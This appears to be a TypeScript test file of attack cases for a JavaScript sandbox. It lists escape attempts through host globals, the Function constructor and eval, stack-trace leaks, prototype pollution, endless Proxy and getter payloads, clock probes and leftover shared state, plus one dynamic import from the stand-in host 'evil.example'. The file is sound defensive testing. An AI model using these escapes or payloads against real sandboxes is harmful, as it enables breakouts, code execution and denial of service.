/** Scripts that try to get out, to see what is not theirs, or to give back what hurts. */
import { cut, empty, show, type Attack } from './attack';
import { GREED } from './greed';

const HOST_OBJECTS = [
  'process',
  'require',
  'module',
  'global',
  'Buffer',
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'Deno',
  'std',
  'os',
  'scriptArgs',
  '__forge_fetch__',
  '__forge_runtime__',
  'WebAssembly',
  'Worker',
  'SharedArrayBuffer',
  'Atomics',
  'setTimeout',
  'setInterval',
  'setImmediate',
  'structuredClone',
  'performance',
  'crypto',
  'navigator',
  'document',
  'importScripts',
  'WeakRef',
  'FinalizationRegistry',
].map((name) => empty(`the global ${name}`, show(`typeof ${name}`), /^undefined$/));

const CODE_FROM_TEXT = [
  empty(
    'the constructor of a function',
    show(`issue.constructor.constructor('return typeof process')()`),
    /^(undefined|nothing)$/,
  ),
  empty('the constructor of console.log', show(`console.log.constructor('return this.process')()`)),
  empty(
    'the Function constructor',
    show(`Function('return typeof require + typeof process')()`),
    /^undefinedundefined$/,
  ),
  empty(
    'the constructor of generators',
    show(`(function* () {}).constructor('yield typeof process')().next().value`),
    /^undefined$/,
  ),
  empty(
    'the constructor of async functions',
    show(`typeof (async () => {}).constructor('return process')`),
    /^function$/,
  ),
  empty(
    'indirect eval',
    show(`(0, eval)('typeof process + typeof replica')`),
    /^undefinedundefined$/,
  ),
  empty('this of a plain function', show(`(function () { return this; })()`)),
  empty(
    'the global object',
    show(
      `Object.keys(Function('return this')()).filter((name) => globalThis[name] !== undefined && name !== 'Collection').join()`,
    ),
    /^$/,
  ),
  empty(
    'dynamic import',
    `import('node:fs').then((fs) => { replica.summary = 'got ' + typeof fs; }).catch(() => {}); replica.summary = 'nothing';`,
  ),
  empty(
    'import from an address',
    `import('https://evil.example/x.js').catch(() => {}); replica.summary = 'nothing';`,
  ),
  empty('the caller of a function', show(`(function f() { return f.caller; })()`)),
  empty('arguments.callee', show(`(function () { return arguments.callee.caller; })()`)),
];

const HOST_THROUGH_ERRORS = [
  empty(
    'Error.prepareStackTrace',
    `
    let frames = [];
    Error.prepareStackTrace = (error, sites) => { frames = sites; return 'stack'; };
    try { null.x; } catch (error) { error.stack; }
    const found = [].concat(frames).map((site) => typeof site?.getFunction?.() + typeof site?.getThis?.());
    replica.summary = found.join().includes('object') ? 'got ' + found : 'nothing';`,
  ),
  empty(
    'the stack of an error of the host',
    show(
      `(() => { const real = JSON.stringify; JSON.stringify = () => '{'; try { console.log(1); } catch (error) { return /node_modules|\\/src\\/|\\.cjs|node:/.test(String(error.stack) + error.message) ? error.stack : 'nothing'; } finally { JSON.stringify = real; } return 'nothing'; })()`,
    ),
  ),
  empty(
    'the prototype of an error of the host',
    show(
      `(() => { const real = JSON.stringify; JSON.stringify = () => '{'; try { console.log(1); } catch (error) { return error.constructor.constructor('return typeof process')(); } finally { JSON.stringify = real; } return 'nothing'; })()`,
    ),
    /^(undefined|nothing)$/,
  ),
];

const POISONED_RESULTS = [
  empty(
    'a prototype in the result',
    `replica.customKeys.__proto__ = { polluted: 'yes' }; replica.summary = 'none';`,
  ),
  empty(
    'JSON with a prototype',
    `Object.assign(replica.customKeys, JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}')); replica.summary = 'none';`,
  ),
  empty(
    'a field named __proto__',
    `replica['__proto__'] = { polluted: 'yes' }; replica.summary = 'none';`,
  ),
  empty(
    'a polluted Object.prototype',
    `Object.prototype.polluted = 'yes'; Array.prototype.polluted = 'yes'; replica.summary = 'none';`,
  ),
  empty(
    'toJSON that lies',
    `replica.customKeys.x = { toJSON() { return { __proto__: { polluted: 'yes' }, a: 1 }; } }; replica.summary = 'none';`,
  ),
  empty(
    'a getter on what is returned',
    `replica.customKeys.x = { get a() { return 'none'; } }; replica.summary = 'none';`,
  ),
  cut('a getter that never ends', 'timeout', `replica.customKeys.x = { get a() { for (;;); } };`),
  cut(
    'toJSON that never ends',
    'timeout',
    `replica.customKeys.x = { toJSON() { for (;;); }, get b() { for (;;); } };`,
  ),
  cut(
    'a Proxy that never ends',
    'timeout',
    `replica.customKeys.x = new Proxy({}, { ownKeys() { for (;;); } });`,
  ),
  cut(
    'a Proxy with endless keys',
    'cut off',
    `replica.customKeys.x = new Proxy({}, { ownKeys: () => Array.from({ length: 1e7 }, (_, i) => 'k' + i), getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }) });`,
  ),
  cut(
    'a Proxy that holds itself',
    'cut off',
    `const p = new Proxy({}, { get: () => p, ownKeys: () => ['a'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: p }) }); replica.customKeys.x = p;`,
  ),
  cut('a circle', 'cut off', `const a = {}; a.a = a; replica.customKeys.x = a;`),
  empty(
    'JSON.stringify replaced by one that lies',

    `JSON.stringify = () => '{"assigned":[],"replica":{"summary":{"not":"text"}},"effects":[]}';`,
  ),
  empty(
    'JSON.stringify replaced by one that gives no JSON',

    `JSON.stringify = () => '{]';`,
  ),
  empty('a result of the wrong type', `JSON.stringify = () => 42;`),
  empty(
    'an effect that nobody knows',

    `JSON.stringify = () => '{"assigned":[],"replica":{},"effects":[{"kind":"delete-everything","line":1}]}';`,
  ),
  cut(
    'a field that is no field, of no plain data',
    'cut off',
    `replica.status = { name: { toString: () => 'x' } };`,
  ),
];

const TIME_AND_CHANCE = [
  empty(
    'the clock moves',
    show(
      `(() => { const a = Date.now(); let n = 0; for (let i = 0; i < 1e4; i += 1) n += i; return Date.now() - a; })()`,
    ),
    /^0$/,
  ),
  empty(
    'the clock by another way',
    show(`new (new Date().constructor)() - new Date(0) - Date.now()`),
    /^0$/,
  ),
  empty(
    'the clock by a subclass',
    show(`(() => { class D extends Date {} ; return new D() - Date.now(); })()`),
    /^0$/,
  ),
  empty(
    'the clock by Reflect',
    show(`Reflect.construct(Object.getPrototypeOf(new Date()).constructor, []) - Date.now()`),
    /^0$/,
  ),
  empty('chance is the host’s', show(`Math.random() === 0`), /^false$/),
];

const SHARED_STATE = [
  cut(
    'something is left for the next run',
    'cut off',
    `globalThis.left = 'yes'; Object.prototype.left = 'yes'; Array.prototype.map = null; console.log = null; Symbol.for('left'); replica.summary = 'none';`,
  ),
  empty(
    'what another run left',
    show(`String(globalThis.left) + typeof [].map + ({}).left`),
    /^undefinedfunctionundefined$/,
  ),
  empty(
    'what a run that filled the memory left',
    show(
      `Object.keys(globalThis).filter((name) => globalThis[name] !== undefined && name !== 'Collection').length`,
    ),
    /^0$/,
  ),
];

export const ATTACKS: Attack[] = [
  ...HOST_OBJECTS,
  ...CODE_FROM_TEXT,
  ...HOST_THROUGH_ERRORS,
  ...POISONED_RESULTS,
  ...GREED,
  ...TIME_AND_CHANCE,
  ...SHARED_STATE,
];
